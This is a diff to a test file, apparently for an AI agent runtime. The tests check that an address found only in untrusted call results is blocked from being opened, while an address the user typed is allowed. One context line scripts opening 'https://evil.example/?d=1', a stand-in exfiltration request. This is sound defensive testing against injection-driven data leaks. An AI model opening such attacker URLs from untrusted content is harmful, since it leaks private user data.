@@ -105,6 +105,24 @@ describe('the labels of a run', () => {
     ]);
   });
 
+  test('leave an address forbidden that only the record of a program’s call contains', async () => {
+    const t = await table(steps(open('https://result.example/?d=1'), open('https://typed.example/before')), {
+      history: async () => ({
+        messages: [
+          { role: 'user', content: 'Read https://typed.example/before' },
+          {
+            role: 'user',
+            content: '<earlier_call><result>See https://result.example/?d=1</result></earlier_call>',
+            isCall: true,
+          },
+        ],
+        labels: ['private', 'untrusted'],
+      }),
+    });
+    await readAll(t, await t.engine.start(solo()));
+    expect(t.opened).toEqual(['https://typed.example/before']);
+  });
+
   test('include those of the earlier conversation', async () => {
     const t = await table(steps(open('https://evil.example/?d=1'), open('https://typed.example/before')), {
       history: async () => ({
